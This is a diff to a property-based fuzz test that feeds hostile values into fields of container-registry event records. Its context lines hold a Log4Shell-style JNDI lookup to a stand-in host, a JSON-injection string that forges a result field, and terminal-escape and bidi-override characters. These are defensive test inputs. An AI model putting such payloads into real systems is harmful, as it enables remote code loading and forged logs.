@@ -47,6 +47,7 @@ REPOSITORIES = [
     "team-a/%s%n${jndi:ldap://evil}",
     'team-a/x"}\n{"outcome": "created"}',
     "team-a/\x00\x1b[31m\u202e",
+    "team-a/\xa0\u3000",
     "team-a/" + "a" * 300,
     "a" * 100_000,
     "",
@@ -73,7 +74,7 @@ HOSTILE = st.fixed_dictionaries(
         "detail.requestParameters.registryId": st.sampled_from([*ACCOUNTS, MISSING]),
         "detail.requestParameters.repositoryName": st.sampled_from(REPOSITORIES) | st.text(),
         "detail.userIdentity.arn": st.sampled_from(PRINCIPALS) | st.text(),
-        "detail.userAgent": st.text(),
+        "detail.userAgent": st.text() | st.just("docker\xa027"),
         "detail.eventID": st.sampled_from(["event-1", "#", "limit#1", "x" * 100, None]),
         "detail.eventTime": st.sampled_from(
             ["2026-11-23T07:45:12Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z", 0]
